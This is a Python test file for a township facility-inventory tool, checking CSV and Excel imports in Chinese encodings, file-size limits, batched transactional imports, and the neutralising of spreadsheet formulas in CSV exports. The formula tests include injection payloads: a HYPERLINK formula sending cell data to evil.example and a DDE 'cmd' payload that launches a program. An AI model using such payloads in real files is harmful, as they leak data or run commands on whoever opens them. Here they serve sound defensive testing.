"""The files offices keep import as they are: GBK/GB18030 CSV from Excel or WPS, .xlsx workbooks;
a huge file or field gets a clear message, a long file is streamed and still all-or-nothing; CSV
exports cannot run as formulas in Excel and import back unchanged (issue 9, items 9, 10, 11)."""

import csv
import io
import json
import os
import re
import sqlite3
import subprocess
import sys
from datetime import datetime

import pytest
from conftest import CONFIG, DATA, REPO, csv_records, table_dump

from monitor import inventory
from monitor import config as configuration
from monitor.store import Store

COLUMNS = ["ref", "name", "kind", "subtype", "status", "lon", "lat", "responsible", "phone", "households", "due",
           "notes"]


def seats():
    """The 14 real township seats (GeoNames), as heating facilities with Chinese text in every column."""
    with open(DATA / "huairou_township_seats.csv", encoding="utf-8") as f:
        return [{"ref": f"HR-{i:03d}", "name": f"{s['name_zh']} 锅炉房", "kind": "供暖设施", "subtype": "锅炉房",
                 "status": "未检查", "lon": s["geonames_lon_wgs84"], "lat": s["geonames_lat_wgs84"],
                 "responsible": "王磊", "phone": "13800001234", "households": "40", "due": "2021-11-01",
                 "notes": "入冬前检修，压力试验"}
                for i, s in enumerate(csv.DictReader(f), start=1)]


def csv_text(rows, columns=COLUMNS):
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=columns, lineterminator="\r\n")
    w.writeheader()
    w.writerows(rows)
    return buf.getvalue()


def monitor(db, *args):
    env = {k: v for k, v in os.environ.items() if not k.startswith("MONITOR_")}
    r = subprocess.run([sys.executable, "-m", "monitor", "--db", str(db), "--config", str(CONFIG), *map(str, args)],
                       capture_output=True, text=True, env=env, cwd=REPO)
    assert "Traceback" not in r.stderr, r.stderr
    return r


def stored(db):
    return sqlite3.connect(db).execute(
        "SELECT ref, name, kind, subtype, status, responsible, phone, households, due, notes FROM facilities"
        " ORDER BY ref").fetchall()


def expected():
    return [(s["ref"], s["name"], "heating", "boiler_room", "unchecked", "王磊", "13800001234", 40, "2021-11-01",
             "入冬前检修，压力试验") for s in seats()]


# --- item 10: encodings and workbooks -----------------------------------------------------------

@pytest.mark.parametrize("encoding", ["gb18030", "gbk", "utf-8-sig", "utf-8"])
def test_csv_in_the_encodings_offices_save(district, tmp_path, encoding):
    f = tmp_path / "seats.csv"
    f.write_bytes(csv_text(seats()).encode(encoding))
    r = monitor(district.db, "facility", "import", f)
    assert r.returncode == 0, r.stderr
    assert stored(district.db) == expected()


def test_gbk_text_after_a_long_ascii_start_is_found(district, tmp_path):
    """The encoding is chosen at the first non-ASCII byte, wherever it is."""
    rows = seats()
    filler = [{**rows[0], "ref": f"A{i}", "name": f"site {i}", "kind": "heating", "subtype": "boiler_room",
               "status": "unchecked", "responsible": "", "notes": "x" * 40} for i in range(30_000)]
    f = tmp_path / "late.csv"
    f.write_bytes(csv_text(filler + rows).encode("gb18030"))
    assert f.stat().st_size > 2 ** 21 and f.read_bytes()[:2 ** 21].isascii()
    r = monitor(district.db, "facility", "import", f, "--dry-run")
    assert r.returncode == 0, r.stderr
    assert "added 30014" in r.stdout


def test_text_that_changes_encoding_midway_is_refused_with_its_row(district, tmp_path):
    rows = [{**s, "ref": f"{s['ref']}-{k}"} for k in range(800) for s in seats()]  # 1.6 MB of UTF-8 first
    f = tmp_path / "mixed.csv"
    f.write_bytes(csv_text(rows).encode("utf-8") + csv_text(seats()[:1]).split("\r\n", 1)[1].encode("gbk"))
    before = table_dump(district.db)
    r = monitor(district.db, "facility", "import", f)
    assert r.returncode == 1
    assert f"row {len(rows) + 2}: " in r.stderr
    assert "text not in the file's encoding (utf-8) from here on: save it as CSV UTF-8" in r.stderr
    assert table_dump(district.db) == before


def test_an_excel_workbook_imports_with_its_cell_types(district, tmp_path):
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["怀柔区供暖设施台账（2021年10月）"])  # a title above the table, as offices write them
    sheet.append([])
    sheet.append(COLUMNS)
    for s in seats():
        sheet.append([s["ref"], s["name"], s["kind"], s["subtype"], s["status"], float(s["lon"]), float(s["lat"]),
                      s["responsible"], 13800001234, 40.0, datetime(2021, 11, 1), s["notes"]])
    sheet.append([None] * len(COLUMNS))  # an empty row Excel leaves at the end
    f = tmp_path / "台账.xlsx"
    book.save(f)
    r = monitor(district.db, "facility", "import", f)
    assert r.returncode == 0, r.stderr
    assert stored(district.db) == expected()
    lon = sqlite3.connect(district.db).execute("SELECT lon FROM facilities WHERE ref = 'HR-001'").fetchone()[0]
    assert lon == float(seats()[0]["lon"])


def test_a_title_above_the_header_is_passed_over_and_rows_keep_their_numbers(district, tmp_path):
    rows = seats()
    rows[1]["status"] = "brokn"
    f = tmp_path / "titled.csv"
    f.write_text("怀柔区供暖设施台账,,,\n\n" + csv_text(rows), encoding="gbk")
    r = monitor(district.db, "facility", "import", f)
    assert r.returncode == 1 and re.search(r"row 5 \(汤河口镇 锅炉房\): [^\n]*unknown status 'brokn'", r.stderr)
    f.write_text("怀柔区供暖设施台账\n" + csv_text(rows).replace("lon,lat", "x,y"), encoding="gbk")
    r = monitor(district.db, "facility", "import", f)
    assert r.returncode == 1 and "no header row with the columns lon, lat in the first 20 rows" in r.stderr


def test_a_damaged_workbook_is_refused_in_one_line(district, tmp_path):
    f = tmp_path / "broken.xlsx"
    f.write_bytes(b"PK\x03\x04" + b"\x00" * 100)
    r = monitor(district.db, "facility", "import", f)
    assert r.returncode == 1 and "not a readable .xlsx workbook" in r.stderr
    assert len(r.stderr.strip().splitlines()) == 1


def test_the_reader_imports_nothing_heavy():
    code = "import sys, monitor.tables, monitor.facilities; print(sorted({'openpyxl', 'pandas', 'numpy'} & set(sys.modules)))"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=REPO).stdout
    assert out.strip() == "[]"


# --- item 9: sizes, and streaming -----------------------------------------------------------------

@pytest.mark.parametrize("chars, limit", [(140_000, "131,072"), (20_000, "10,000")])
def test_a_long_field_gets_a_message(district, tmp_path, chars, limit):
    """Over 128 KiB the csv module itself stops (it raised _csv.Error); over 10,000 characters the
    reader does: no field of a facility is anywhere near that."""
    rows = seats()
    rows[2]["notes"] = "长" * chars
    f = tmp_path / "long.csv"
    f.write_text(csv_text(rows), encoding="utf-8")
    before = table_dump(district.db)
    r = monitor(district.db, "facility", "import", f)
    assert r.returncode == 1
    assert "long.csv: row 4: " in r.stderr
    assert f"a field is longer than {limit} characters (an unclosed quote?); nothing imported" in r.stderr
    assert table_dump(district.db) == before


def test_a_file_over_the_size_limit_is_refused_unread(district, tmp_path):
    f = tmp_path / "huge.csv"
    with open(f, "wb") as out:  # sparse: 600 MB that take no disk
        out.write(csv_text(seats()).encode("utf-8"))
        out.truncate(600 * 1024 * 1024)
    r = monitor(district.db, "facility", "import", f)
    assert r.returncode == 1
    assert "file too large (629,145,600 bytes, the limit is 536,870,912): split it into several files" in r.stderr


def test_a_long_file_is_written_in_batches_and_still_all_or_nothing(district, tmp_path, monkeypatch):
    """Rows are checked and written a batch at a time inside one transaction: a bad row in the last
    batch rolls back the batches already written."""
    monkeypatch.setattr(inventory, "BATCH_ROWS", 10)
    rows = [{**s, "ref": f"{s['ref']}-{k}", "name": f"{s['name']} {k}"} for k in range(3) for s in seats()]
    bad = rows + [{**seats()[0], "ref": "LAST", "status": "brokn"}]
    f = tmp_path / "long.csv"
    f.write_text(csv_text(bad), encoding="utf-8")
    store = Store.open(district.db)
    config = configuration.load(CONFIG)
    batches = []
    real = inventory._FacilityRun.batch
    monkeypatch.setattr(inventory._FacilityRun, "batch", lambda self, b: (batches.append(len(b)), real(self, b)))
    before = table_dump(district.db)
    with pytest.raises(Exception) as e:
        inventory.import_facilities(store, config, f, by="t")
    assert re.search(r"row 44 \(杨宋镇 锅炉房\): [^\n]*unknown status 'brokn'", str(e.value))
    assert batches == [10, 10, 10, 10, 3]
    assert table_dump(district.db) == before
    f.write_text(csv_text(rows), encoding="utf-8")
    result = inventory.import_facilities(store, config, f, by="t")
    assert (result.added, result.rows) == (42, 42)


# --- item 11: formulas in CSV exports ------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+2", "-2+3 后院", "@SUM(A1:A9)", "'=已转义"]


def test_exports_neutralise_formulas_and_import_back_unchanged(district, tmp_path):
    from monitor.tables import cell

    rows = [{**s, "ref": cell(f"={s['ref']}"), "name": cell(name), "responsible": cell("-王磊"),
             "phone": cell("+8613800001234")} for s, name in zip(seats(), FORMULAS)]
    src = tmp_path / "in.csv"  # as an export writes them
    src.write_text(csv_text(rows), encoding="utf-8")
    assert monitor(district.db, "facility", "import", src).returncode == 0
    names = sorted(r[1] for r in stored(district.db))
    assert names == sorted(FORMULAS)

    out = tmp_path / "facilities.csv"
    assert monitor(district.db, "facility", "export", "--out", out).returncode == 0
    cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "@")]
    assert not [c for c in cells if c[:1] in ("+", "-") and not c[1:].replace(".", "").isdigit()]  # numbers only
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")" in cells and "''=已转义" in cells
    assert "+8613800001234" in cells and "'-王磊" in cells  # a number with its sign is still a number

    # into a fresh database: every text comes back as it was typed
    fresh = tmp_path / "fresh.db"
    assert monitor(fresh, "init").returncode == 0
    r = monitor(fresh, "facility", "import", out)
    assert r.returncode == 0, r.stderr
    assert stored(fresh) == stored(district.db)


def test_numbers_stay_numbers_in_csv_exports():
    from monitor.tables import cell, uncell

    for value in ("-3", "-116.637", "+5", "-1e-3", -3, -116.637):
        assert cell(value) == str(value) and uncell(cell(value)) == str(value)
    for text in ("-3+A1", "=1", "\t=1", "\r=1", "-", "+", "'-x", "''"):
        assert cell(text) == "'" + text and uncell(cell(text)) == text


def test_the_district_export_and_followups_csv_neutralise_formulas(district, tmp_path):
    monitor(district.db, "facility", "add", "-k", "heating", "-t", "锅炉房", "--name", "=cmd|' /C calc'!A0",
            "--lon", "116.63712", "--lat", "40.73456", "--responsible", "@王磊")
    out = tmp_path / "export.csv"
    r = monitor(district.db, "--as-of", "2021-11-20T09:00+08:00", "export", "--format", "csv", "--out", out)
    assert r.returncode == 0, r.stderr
    row = csv_records(out.read_text(encoding="utf-8-sig"))[0]
    assert (row["name"], row["responsible"]) == ("'=cmd|' /C calc'!A0", "'@王磊")
    r = monitor(district.db, "--as-of", "2021-11-20T09:00+08:00", "followups", "--csv")
    rows = csv_records(r.stdout)
    assert rows and {(x["name"], x["responsible"]) for x in rows} == {("'=cmd|' /C calc'!A0", "'@王磊")}
    assert rows[0]["causes"]
